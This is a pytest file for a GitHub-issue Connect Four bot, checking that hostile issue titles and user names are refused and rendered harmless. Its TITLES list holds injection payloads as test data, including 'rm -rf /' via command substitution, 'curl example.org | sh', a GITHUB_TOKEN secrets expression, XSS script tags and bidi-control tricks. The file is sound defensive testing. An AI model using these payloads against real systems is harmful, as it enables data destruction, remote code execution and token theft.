"""Malicious titles and names."""

import re
from contextlib import closing

import pytest
from support.github.graph import graph
from support.github.server import REPOSITORY, TOKEN, blob_problems
from support.github.world import World

from fourfold.github.client import Client, GitHubError
from fourfold.github.markers import REFUSED

TITLES = [
    "connect4|$(touch /tmp/x)`id`;rm -rf /",
    "connect4|drop|red|4; curl example.org | sh",
    "connect4|${{ secrets.GITHUB_TOKEN }}",
    "connect4|{board}{owner}{{7*7}}",
    "connect4|<img src=x onerror=alert(1)><script>alert(1)</script>",
    "connect4|**bold** [link](javascript:alert(1)) ![i](http://x) | a | b |",
    "connect4|@everyone @Codertocat #1 closes #2",
    "connect4|\n::set-output name=x::y\n::warning::z",
    "connect4|\u202edrop|red|4\u2066\u200b\ufeff",
    "connect4|drop|red|\uff14",  # a full-width 4
    "connect4|drop|red|\u0664",  # an Arabic 4
    "connect4|" + "A" * 10_000,
    "connect4|" + "|" * 10_000,
    "connect4|-->\n<!-- connect4:end --> <!-- fourfold: done -->",
    "connect4|\x00\x1b[31m",
    "connect4|\ud83d",  # half a character, as JSON allows
]


@pytest.mark.parametrize("title", TITLES)
def test_hostile_titles_are_harmless_and_answered(world: World, title: str) -> None:
    head = world.github.head
    seen = world.open("eve", title)
    assert seen.status == 0
    assert seen.reactions == ["eyes", "confused"]
    assert world.github.head == head
    assert len(seen.comment) < 2000
    told = seen.comment.removeprefix(REFUSED)
    quoted = re.search("<code>(.*?)</code>", told)
    assert quoted is not None
    assert re.fullmatch(r"(?:[A-Za-z0-9 ]|&#\d+;)+", quoted[1])
    assert not set("\u202e\u2066\u200b\x00\x1b") & set(told)
    assert not any(line.startswith("::") for line in seen.log.splitlines())
    summary = world.summary.read_text(encoding="utf-8")
    assert "<script" not in summary
    assert "${{" not in summary


@pytest.mark.parametrize(
    "user", ["<b>x</b>", "a|b", "](http://x)", "-->", '"><img src=x>', "x" * 500, "a\nb", "{user}"]
)
def test_hostile_names_are_harmless_in_leaderboards_and_rosters(world: World, user: str) -> None:
    world.begin("414141", users=(user[:100], "bob"))
    seen = world.open(user[:100], "connect4|drop|red|4")
    assert seen.accepted
    for page in (seen.comment, world.readme):
        assert user == "-->" or user not in page
        assert "<b>x" not in page
        assert "<img src=x" not in page
        assert page.count("<!--") == page.count("-->")
    assert world.readme.count("connect4:end") == 1


def test_the_server_of_these_tests_is_strict(world: World) -> None:
    """It knows GitHub's description, and reports what is not in it."""
    blob = world.github.get_blob(next(iter(world.github.blobs)))
    assert blob_problems(blob) == []
    assert blob_problems({**blob, "size": "large"})
    for call in ("git/blobs/1234", "git/trees/1234"):
        with (
            closing(Client(TOKEN, world.url)) as client,
            pytest.raises(GitHubError, match="status 404"),
        ):
            client.get(f"/repos/{REPOSITORY}/{call}")
        assert world.github.problems.pop()
    for query in (
        "{ repository(owner: 1, name: 2) { id } }",
        '{ repository(owner: "a", name: "b") { colour } }',
        'mutation { closeIssue(input: {issueId: "I_1", stateReason: BORED}) { clientMutationId } }',
    ):
        assert graph(world.github, {"query": query, "variables": {}})[2]
